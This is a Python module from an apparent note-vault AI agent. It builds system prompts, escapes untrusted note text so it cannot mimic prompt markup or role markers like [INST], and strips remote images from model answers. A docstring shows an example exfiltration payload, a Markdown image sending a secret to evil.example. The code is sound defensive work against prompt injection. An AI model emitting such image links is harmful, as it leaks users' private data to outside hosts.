"""Write the system prompt, escape untrusted text before a model reads it, and sanitize a model's answers."""

import json
import re
import secrets
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import datetime
from importlib import resources
from pathlib import Path
from typing import Final, Literal

from knapper.errors import SetupError, StorageError
from knapper.tools.context import Context
from knapper.vault import links, parser
from knapper.vault.access import PREFERENCES_NOTE
from knapper.vault.paths import NotePath

_TAG_OPENING: Final = re.compile(r"<(?=\S)")
_ROLE_MARKERS: Final = re.compile(
    r"\[(?=/?(?:INST|SYS|SYSTEM|TOOL_CALLS|TOOL_RESULTS|AVAILABLE_TOOLS)\b)", re.IGNORECASE
)
_INVISIBLE_CHARS: Final = re.compile(
    "[\u00ad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\U000e0000-\U000e0fff]"
)
# The common case: text without any character to escape skips the JSON encoder and three substitutions.
_SAFE_TEXT: Final = re.compile(r"[^\x00-\x1f\"\\<\[" + _INVISIBLE_CHARS.pattern[1:-1] + "]*")
"""Text that JSON holds unchanged."""
BLOCK_TAG: Final = "vault-data"


def new_mark() -> str:
    """Return a random mark that untrusted text can't have guessed."""
    return secrets.token_hex(6)


def escape(data: object) -> str:
    r"""Return data as JSON that holds nothing a model could take for the prompt's own markup.

    ``{"a": "</vault-data>"}`` becomes ``{"a": "\\u003c/vault-data>"}``.
    """
    if isinstance(data, str) and _SAFE_TEXT.fullmatch(data):
        return f'"{data}"'
    text = json.dumps(data, ensure_ascii=False)
    text = _TAG_OPENING.sub(r"\\u003c", text)
    text = _ROLE_MARKERS.sub(r"\\u005b", text)
    return _INVISIBLE_CHARS.sub(lambda match: json.dumps(match.group())[1:-1], text)


def enclose(source: str, escaped: str, mark: str) -> str:
    """Return escaped text as a block of the prompt.

    Args:
        source: Where the text comes from, in a trusted word such as a tool's name.
        escaped: Text from `escape`, or a part of it.
        mark: The block's mark, which closes it as well.
    """
    return f'<{BLOCK_TAG} source="{source}" mark="{mark}">\n{escaped}\n</{BLOCK_TAG} mark="{mark}">'


def escape_plain(text: str) -> str:
    """Escape a text that is used outside of a block, so that it holds none of the prompt's markup.

    ``</vault-data>`` becomes ``&lt;/vault-data>``; invisible characters are removed.
    """
    return _ROLE_MARKERS.sub("&#91;", _TAG_OPENING.sub("&lt;", _INVISIBLE_CHARS.sub("", text)))


_MAX_HOST_CHARS: Final = 100
# Removing one image can complete another (`![![x](a)](b)`), so passes are repeated, but not without end.
_MAX_PASSES: Final = 20
"""Passes after which what is left is taken for a deliberate construction, and every image is disabled."""
_OBSIDIAN_ONLY: Final = re.compile(rb"%%|\$|\A(?:\xef\xbb\xbf)?---")
"""Beginnings of comments, maths and properties in Obsidian, which other Markdown renderers show as plain text."""
_SCHEMELESS_ADDRESS: Final = re.compile(r"\s*[/\\]{2}")
"""The beginning of an address without a scheme; browsers read a backslash as a slash."""
ByteReplacement = tuple[int, int, bytes]


def sanitize_answer(answer: str) -> tuple[str, tuple[str, ...]]:
    """Replace remote images by plain mentions and escape HTML; code stays as it is.

    ``![x](https://evil.example/?q=secret)`` becomes ``[image left out: evil.example]``. The result is checked
    again, since removing one part can turn the text around it into an image.

    Returns:
        The sanitized answer, and notes for the person about what was changed.
    """
    data = answer.encode()
    notes: dict[str, None] = {}
    for _ in range(_MAX_PASSES):
        # The answer is read twice, as Obsidian shows it and as other renderers do: what is a comment for one can be
        # an image for the other.
        # Of the same length, so that spans found in it are valid in the answer.
        elsewhere = _OBSIDIAN_ONLY.sub(
            lambda match: (b"*" if match[0].endswith(b"---") else b"z") * len(match[0]), data
        )
        unsafe = {*_find_unsafe(data, notes), *_find_unsafe(data, notes, elsewhere)}
        outermost: list[ByteReplacement] = []
        for edit in sorted(unsafe, key=lambda edit: (edit[0], -edit[1])):
            if not outermost or edit[0] >= outermost[-1][1]:
                outermost.append(edit)
        if not outermost:
            return data.decode(errors="replace"), tuple(notes)
        # From the last to the first, so that the spans of the others stay valid.
        for start, stop, text in reversed(outermost):
            data = data[:start] + text + data[stop:]
    data = data.replace(b"<", b"&lt;").replace(b"![", b"!\\[")
    return data.decode(errors="replace"), tuple(notes)


def _find_unsafe(data: bytes, notes: dict[str, None], shown: bytes | None = None) -> Iterator[ByteReplacement]:
    """Yield the replacements for remote images and HTML.

    Args:
        data: The answer.
        notes: Notes for the person are added here.
        shown: The answer as other renderers read it, with the same length; None to use *data*.
    """
    outline = parser.parse_note(data if shown is None else shown)
    for link in outline.links:
        if data[link.start : link.start + 1] == b"!" and (
            links.is_external(link.target) or _SCHEMELESS_ADDRESS.match(link.target) is not None
        ):
            address = link.target.replace("\\", "/").partition("//")[2]
            host = address.partition("/")[0].partition("?")[0].rpartition("@")[2]
            host = re.sub(r"[^\w.:-]", "", host[:_MAX_HOST_CHARS] or link.target[:20])
            notes[f"an image from {host} was left out of the answer"] = None
            yield link.start, link.stop, f"[image left out: {host}]".encode()
    for start, stop in outline.code_spans:
        if data[start : start + 1] == b"<":
            yield start, stop, data[start:stop].replace(b"<", b"&lt;")


PromptName = Literal[
    "chat",
    "repair",
    "summary",
    "scout",
    "web",
    "task",
    "orchestrator",
    "rewrite",
    "stage",
    "run-judge",
    "run-plan",
    "run-answer",
    "run-join",
]
_MAX_PREFERENCES: Final = 4_000
"""Characters of the preferences that go into the prompt."""


@dataclass(frozen=True, slots=True, kw_only=True)
class Prompts:
    """The prompts of the agents: the person's own files before the built-in ones."""

    own_file: Path | None = None
    """The person's own prompt file for the chat."""
    folder: Path | None = None
    """A folder with the person's own prompts, by name: ``chat.md``."""

    def load(self, name: PromptName | Literal[""]) -> str:
        """Return a prompt; the person's own file goes before the built-in one. Without a name it is empty.

        Raises:
            SetupError: The configured file doesn't exist.
            StorageError: The file can't be read.
        """
        if not name:
            return ""
        if name == "chat" and self.own_file is not None:
            if not self.own_file.is_file():
                raise SetupError(
                    f"there is no prompt '{self.own_file}'",
                    code="no_prompt",
                    hint="model.prompt names it; correct that setting",
                )
            return read_own_file(self.own_file)
        return self.own_text(name) or read_built_in(name)

    def own_text(self, name: str) -> str:
        """Return the person's own prompt in the folder; empty where there is none.

        Raises:
            StorageError: The file can't be read.
        """
        own_prompt = self.folder / f"{name}.md" if self.folder else None
        return read_own_file(own_prompt) if own_prompt and own_prompt.is_file() else ""


def read_built_in(name: PromptName) -> str:
    """Return a built-in prompt."""
    return resources.files("knapper.agents").joinpath("prompts", f"{name}.md").read_text(encoding="utf-8")


def write_system_prompt(base: str, context: Context, now: datetime, *, active_file: str = "") -> str:
    """Write the system prompt of one turn.

    Args:
        base: The prompt that it begins with.
        context: The vault, as the agent sees it; the preferences are read now.
        now: The local time.
        active_file: The note that is open; empty for none.
    """
    parts = [base.strip(), f"## Today\n\n{now:%A}, {now.date().isoformat()}, {now:%H:%M}."]
    if active_file:
        escaped_path = escape(active_file)
        parts.append(f'## The open note\n\nThe person looks at {escaped_path}. "This note" means that file.')
    # The person's preferences; agents can't change that note, so it is trusted text.
    raw = context.view.read_optional(NotePath(PREFERENCES_NOTE))
    preferences = escape_plain(parser.decode_text(raw).strip()[:_MAX_PREFERENCES]) if raw else ""
    if preferences:
        parts.append(
            "## User Preferences\n\nThe person saved these; follow them where they don't go against the rules above."
            f"\n\n{preferences}"
        )
    return "\n\n".join(parts)


def read_own_file(path: Path, what: str = "prompt") -> str:
    """Return a text that the person has written in the place of a built-in one; *what* says in an error what it is.

    Raises:
        StorageError: The file can't be read.
    """
    try:
        return path.read_text(encoding="utf-8")
    except (OSError, UnicodeDecodeError) as error:
        raise StorageError(f"the {what} '{path}' can't be read", hint="it has to be a text in UTF-8") from error


Clock = Callable[[], datetime]
"""Returns the local time."""
